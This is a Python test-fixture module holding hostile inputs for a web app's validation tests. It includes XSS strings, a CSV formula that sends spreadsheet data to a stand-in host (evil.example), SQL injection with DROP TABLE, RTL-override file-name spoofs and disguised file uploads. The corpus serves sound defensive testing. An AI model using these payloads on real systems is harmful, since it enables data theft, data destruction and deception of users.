"""A corpus of hostile input for tests/test_hostile_input.py.

Each payload has a category; every form and every filter receives every category. Lone surrogates
are left out: they cannot travel over HTTP (a request body is UTF-8 bytes).
"""

import io
import zipfile
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    value: str
    category: str  # xss, injection, size, unicode, nul, number, date

    def __str__(self):  # pytest ids and failure reports
        return self.name


# --- Text -----------------------------------------------------------------------------------------

XSS = [
    Payload("xss-script", "<script>alert(1)</script>", "xss"),
    Payload("xss-img", '"><img src=x onerror=alert(1)>', "xss"),
    Payload("xss-js-url", "javascript:alert(1)", "xss"),
    Payload("xss-svg", "<svg onload=alert(1)>", "xss"),
    Payload("xss-md-link", "[cliquez ici](javascript:alert(1))", "xss"),
    Payload("xss-md-image", "![x](javascript:alert(1)) <a href='javascript:alert(1)'>a</a>", "xss"),
]
INJECTION = [  # the formula first: it lands in the first text field (a name the CSV exports)
    Payload("csv-formula", '=HYPERLINK("http://evil.example/?"&A1;"Voir")', "injection"),
    Payload("sql-or", "' OR 1=1 --", "injection"),
    Payload("sql-drop", "1; DROP TABLE consultations_consultation;--", "injection"),
]
SIZE = [
    Payload("title-10k", "T" * 10_000, "size"),
    Payload("text-1mb", ("Le CSE demande une pause. " * 40_330)[:1_048_576], "size"),
]
UNICODE = [
    Payload("rtl-override", "Facture \u202efdp.exe\u202c signée", "unicode"),
    Payload("zero-width", "\ufeffAs\u200bsis\u200ctant\u200d qualité", "unicode"),
    Payload("emoji", "IA 🤖 refusée 👎🏽", "unicode"),
    Payload("emoji-zwj", "👩‍👩‍👧‍👦 et 👨🏽‍💻 🏳️‍🌈", "unicode"),
]
NUL = [Payload("nul", "avant\x00après", "nul")]

TEXT_PAYLOADS = [*XSS, *INJECTION, *SIZE, *UNICODE, *NUL]

# --- Numbers and dates ----------------------------------------------------------------------------

NUMBER_PAYLOADS = [
    Payload("int-huge", "99999999999999999999", "number"),
    Payload("int-negative", "-1", "number"),
    Payload("int-huge-negative", "-99999999999999999999", "number"),
    Payload("float-overflow", "1e400", "number"),
    Payload("nan", "NaN", "number"),
    Payload("superscript-digit", "²", "number"),
    Payload("smallint-overflow", "40000", "number"),
]
DATE_PAYLOADS = [
    Payload("date-feb-30", "2025-02-30", "date"),
    Payload("date-zero", "0000-00-00", "date"),
    Payload("date-5-digit-year", "31/12/99999", "date"),
    Payload("date-max", "9999-12-31", "date"),
    Payload("date-min", "0001-01-01", "date"),
]

ALL_PAYLOADS = [*TEXT_PAYLOADS, *NUMBER_PAYLOADS, *DATE_PAYLOADS]
CATEGORIES = {payload.category for payload in ALL_PAYLOADS}

# A short corpus for query parameters (each request renders a whole list page).
QUERY_PAYLOADS = [
    XSS[0],
    XSS[1],
    XSS[2],
    INJECTION[2],
    Payload("query-long", "q" * 10_000, "size"),
    UNICODE[0],
    UNICODE[3],
    NUL[0],
    NUMBER_PAYLOADS[0],
    NUMBER_PAYLOADS[1],
    NUMBER_PAYLOADS[5],
    DATE_PAYLOADS[0],
    DATE_PAYLOADS[2],
    DATE_PAYLOADS[3],
    DATE_PAYLOADS[4],
]

# --- Files ----------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def zip_bytes(*entries: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


PLAIN_ZIP = zip_bytes(("lisez-moi.txt", b"pas un document"), ("outil.exe", EXE))
# A zip whose first entry is named like a Word part, without the parts of a real document.
FAKE_DOCX = zip_bytes(("word/evil.html", HTML), ("outil.exe", EXE))
DOCX = zip_bytes(
    ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
    ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
    ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
)
ODT = zip_bytes(
    ("mimetype", b"application/vnd.oasis.opendocument.text"),
    ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
)

# (name, file name, content, what the message says)
DISGUISED_UPLOADS = [
    ("png-as-pdf", "note.pdf", PNG, "ne correspond pas à son contenu"),
    # Named as an accepted type, of none: told the name and the content differ.
    ("exe-as-pdf", "note.pdf", EXE, "porte l&#x27;extension .pdf mais son contenu n&#x27;en est"),
    ("html-as-docx", "note.docx", HTML, "porte l&#x27;extension .docx mais son contenu"),
    ("zip-as-docx", "note.docx", PLAIN_ZIP, "porte l&#x27;extension .docx mais son contenu"),
    ("exe-as-exe", "note.exe", EXE, "n&#x27;est pas accepté"),
    ("fake-docx", "note.docx", FAKE_DOCX, "n&#x27;est pas un document"),
    ("pdf-as-exe-rtl", "facture\u202efdp.exe", PDF, "ne correspond pas à son contenu"),
    ("empty", "note.pdf", b"", "vide"),
]
